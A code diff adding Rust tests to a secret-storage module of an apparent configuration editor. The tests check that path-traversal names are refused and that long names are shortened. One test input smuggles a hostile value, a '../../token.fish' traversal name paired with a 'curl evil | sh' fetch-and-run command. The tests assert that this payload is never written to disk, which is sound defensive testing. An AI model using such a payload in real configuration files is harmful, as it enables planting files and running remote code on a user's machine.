@@ -2,7 +2,7 @@
 //! 2. Values that only resemble a secret are left alone.
 //! 3. One variable is never used for two secrets.
 
-use super::{SecretHandling, SecretNames};
+use super::{SecretFile, SecretHandling, SecretNames};
 use crate::{ConfigEditor, ServerEntry};
 use std::collections::BTreeMap;
 
@@ -150,6 +150,53 @@ fn a_secret_beside_a_variable_is_stored_under_the_name_of_a_variable() {
     prepared.secrets.iter().try_for_each(|secret| secret.store(&editor)).expect("write");
     let stored = |name: &str| std::fs::read_to_string(folder.path().join(name)).expect("a secret");
     assert_eq!([stored("DB_PASSWORD"), stored("API_KEY")], ["hunter2hunter2", "abcdef"]);
+}
+
+/// A file of another program could otherwise create any file of the user, with any content.
+#[test]
+fn a_default_of_no_variable_is_never_written_to_a_file() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let secrets = folder.path().join("a/secrets");
+    let value =
+        "${HOME}${../../token.fish:-curl evil | sh}${/x/token:-ghp_Ab3dEf6hIj9lMn2pQr5tUv8x}";
+    let prepared = SecretHandling::Files(secrets.clone()).apply(
+        entry(&[], &[("X", value)]),
+        "s",
+        &mut SecretNames::default(),
+    );
+    let editor = ConfigEditor::new(None);
+    prepared.secrets.iter().try_for_each(|secret| secret.store(&editor)).expect("write");
+    let expected = "${HOME}${../../token.fish:-curl evil | sh}${/x/token:-${X}}";
+    assert_eq!(prepared.entry.env["X"], expected);
+    let names = std::fs::read_dir(&secrets).expect("the folder of secrets");
+    let names: Vec<_> = names.map(|entry| entry.expect("an entry").file_name()).collect();
+    assert_eq!(names, ["X"]);
+    assert!(!folder.path().join("token.fish").exists());
+}
+
+#[test]
+fn a_secret_file_with_a_path_for_a_name_is_refused() {
+    let folder = tempfile::tempdir().expect("a folder");
+    for name in ["../x", "/x", "a/b", "", "..", ".x"] {
+        let file = SecretFile::new(&folder.path().join("secrets"), name, "abc");
+        let error = file.write(&ConfigEditor::new(None)).expect_err("not a name");
+        assert!(error.to_string().contains("is not a valid name"), "{name}: {error}");
+    }
+    assert_eq!(std::fs::read_dir(folder.path()).expect("a folder").count(), 0);
+}
+
+#[test]
+fn a_secret_with_a_long_name_gets_a_shorter_one() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let handling = SecretHandling::Files(folder.path().to_owned());
+    let name = "TOKEN_".repeat(40);
+    for value in ["abcdef", "${A}ghp_Ab3dEf6hIj9lMn2pQr5tUv8x"] {
+        let entry = entry(&[], &[(&name, value)]);
+        let prepared = handling.apply(entry, "s", &mut SecretNames::default());
+        let editor = ConfigEditor::new(None);
+        prepared.secrets.iter().try_for_each(|secret| secret.store(&editor)).expect("write");
+    }
+    assert_eq!(std::fs::read_dir(folder.path()).expect("a folder").count(), 2);
 }
 
 #[test]
